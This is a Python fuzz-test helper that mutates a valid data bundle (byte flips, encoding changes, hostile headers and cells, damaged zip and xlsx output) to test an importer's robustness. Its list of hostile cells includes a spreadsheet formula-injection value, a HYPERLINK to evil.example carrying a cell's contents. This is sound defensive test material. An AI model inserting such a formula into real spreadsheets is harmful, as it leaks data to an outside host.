"""Mutated bundles for the import fuzz run (tests/test_import_fuzz.py, bench/fuzz_import.py).

A bundle starts as the valid test bundle and gets a few mutations, the kinds that a careless
user or an attacker produces: bytes flipped, inserted or cut, other line endings, separators and
encodings, hostile header names and cells (huge, NUL, impossible years and dates, ids with
å/ä/ö), rows with extra fields, duplicated or missing files; then it is written as a folder, a
zip (itself maybe damaged) or an xlsx workbook (sheet names varied, maybe damaged). Choices come
from a `Draw`: hypothesis's `data.draw` in the suite, `random.Random` in the long run.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import zipfile
from pathlib import Path
from typing import Protocol

import xlsxwriter

VALID = Path(__file__).parent / "bundles" / "valid"
FORMATS = ("folder", "zip", "xlsx")
HOSTILE_HEADERS = ("_b", "__line__", "LINE#", "_t0", "id", "", "x" * 140_000, "Year", "år")
HOSTILE_CELLS = (
    "0000-01-01", "2022-02-30", "9999-12-31", "99999", "-1", "0", "3000000000", "2022.5",
    "1e309", "NaN", "inf", "-0", "avd-älvsjö", "a b", "a?b", "a#b", "..", "", " ", '"', '""',
    "\x00", "x" * 5000, "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")", "T1", "VB", "vb",
    "stad", "sdn-kung", "i-nojd", "vom15", "uppfyllt", "12,5", "١٢", "\u2212" + "3", "\r", "\n",
)


class Draw(Protocol):
    def integer(self, lo: int, hi: int) -> int: ...


class RandomDraw:
    """Choices from a seeded `random.Random` (the long run)."""

    def __init__(self, seed: int):
        self.rng = random.Random(seed)

    def integer(self, lo: int, hi: int) -> int:
        return self.rng.randint(lo, hi)


class HypothesisDraw:
    """Choices from hypothesis's `st.data()` (so that failures shrink)."""

    def __init__(self, data):
        from hypothesis import strategies as st

        self.data, self.st = data, st

    def integer(self, lo: int, hi: int) -> int:
        return self.data.draw(self.st.integers(lo, hi))


def pick(draw: Draw, seq):
    return seq[draw.integer(0, len(seq) - 1)]


def valid_files() -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(VALID.iterdir())}


def _rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8", errors="replace")
    try:
        return list(csv.reader(io.StringIO(text, newline="")))
    except csv.Error:
        return [[line] for line in text.splitlines()]


def _csv_text(rows: list[list[str]], sep: str = ",") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\n").writerows(rows)
    return buf.getvalue().encode("utf-8", errors="surrogatepass")


def mutate_file(draw: Draw, data: bytes) -> bytes:
    """One mutation of one file's bytes."""
    kind = draw.integer(0, 12)
    n = len(data)
    pos = draw.integer(0, max(n - 1, 0))
    if kind == 0:  # flip a byte
        return data[:pos] + bytes([draw.integer(0, 255)]) + data[pos + 1:]
    if kind == 1:  # insert bytes
        return data[:pos] + bytes(draw.integer(0, 255) for _ in range(draw.integer(1, 8))) \
            + data[pos:]
    if kind == 2:  # cut a range
        return data[:pos] + data[pos + draw.integer(1, 40):]
    if kind == 3:  # truncate
        return data[:pos]
    if kind == 4:  # other line endings
        return data.replace(b"\r\n", b"\n").replace(b"\n", pick(draw, (b"\r", b"\r\n", b"\n\n")))
    if kind == 5:  # Swedish separator (decimal points stay: a mix)
        return data.replace(b",", b";")
    if kind == 6:  # another encoding
        text = data.decode("utf-8", errors="replace")
        return text.encode(pick(draw, ("cp1252", "utf-16", "latin-1")), errors="replace")
    rows = _rows(data)
    if not rows:
        return data
    if kind == 7:  # a hostile header name
        rows[0] = rows[0] + [pick(draw, HOSTILE_HEADERS)]
        return _csv_text(rows)
    r = draw.integer(0, len(rows) - 1)
    if kind == 8:  # a hostile cell
        row = rows[r]
        if row:
            row[draw.integer(0, len(row) - 1)] = pick(draw, HOSTILE_CELLS)
        return _csv_text(rows)
    if kind == 9:  # repeat a row
        rows.insert(r, list(rows[r]))
        return _csv_text(rows)
    if kind == 10:  # a row with more fields than the header
        rows[r] = rows[r] + ["extra", "fält"]
        return _csv_text(rows)
    if kind == 11:  # many rows
        return data + b"".join(data.splitlines(keepends=True)[-1:] * draw.integer(1, 300))
    return b""  # an empty file


def mutate_bundle(draw: Draw, files: dict[str, bytes]) -> dict[str, bytes]:
    files = dict(files)
    for _ in range(draw.integer(1, 4)):
        names = sorted(files)
        kind = draw.integer(0, 9)
        if kind == 0 and names:  # drop a file
            files.pop(pick(draw, names))
        elif kind == 1 and names:  # the same file twice, in another case
            name = pick(draw, names)
            files[name.upper()] = files[name]
        elif kind == 2:  # an unknown file
            files[pick(draw, ("notes.txt", "x.csv", ".hidden.csv", "Blad1.csv"))] = b"a,b\n1,2\n"
        elif names:
            name = pick(draw, names)
            files[name] = mutate_file(draw, files[name])
    return files


def write_folder(files: dict[str, bytes], path: Path) -> Path:
    path.mkdir(parents=True)
    for name, data in files.items():
        (path / name).write_bytes(data)
    return path


def write_zip(draw: Draw, files: dict[str, bytes], path: Path) -> Path:
    prefix = pick(draw, ("", "", "bundle/", "a/b/"))
    method = pick(draw, (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED))
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in files.items():  # a fixed time: the same draws give the same bytes
            zf.writestr(zipfile.ZipInfo(prefix + name, (2022, 1, 1, 0, 0, 0)), data)
    if draw.integer(0, 2) == 0:  # damage the archive itself
        data = bytearray(path.read_bytes())
        for _ in range(draw.integer(1, 4)):
            data[draw.integer(0, len(data) - 1)] = draw.integer(0, 255)
        path.write_bytes(bytes(data))
    return path


def write_xlsx(draw: Draw, files: dict[str, bytes], path: Path) -> Path:
    wb = xlsxwriter.Workbook(str(path), {"strings_to_numbers": draw.integer(0, 1) == 1})
    wb.set_properties({"created": dt.datetime(2022, 1, 1)})  # the same draws, the same bytes
    used: set[str] = set()
    for name, data in files.items():
        stem = name.rsplit(".", 1)[0]
        sheet = pick(draw, (stem, stem.capitalize(), f"{stem}.csv"))[:31]
        if sheet.lower() in used or not sheet or any(c in sheet for c in "[]:*?/\\"):
            continue
        used.add(sheet.lower())
        ws = wb.add_worksheet(sheet)
        for r, row in enumerate(_rows(data)[:2000]):
            for c, cell in enumerate(row[:50]):
                ws.write_string(r, c, cell[:32_000])
    if not used:
        wb.add_worksheet("Blad1")
    wb.close()
    if draw.integer(0, 3) == 0:  # damage the workbook
        data = bytearray(path.read_bytes())
        for _ in range(draw.integer(1, 4)):
            data[draw.integer(0, len(data) - 1)] = draw.integer(0, 255)
        path.write_bytes(bytes(data))
    return path


def hostile_bundle(draw: Draw, folder: Path) -> Path:
    """A mutated bundle written under `folder` (which must not exist yet) in a drawn format."""
    folder.mkdir(parents=True)
    files = mutate_bundle(draw, valid_files())
    fmt = pick(draw, FORMATS)
    if fmt == "folder":
        return write_folder(files, folder / "bundle")
    if fmt == "zip":
        return write_zip(draw, files, folder / "bundle.zip")
    return write_xlsx(draw, files, folder / "bundle.xlsx")
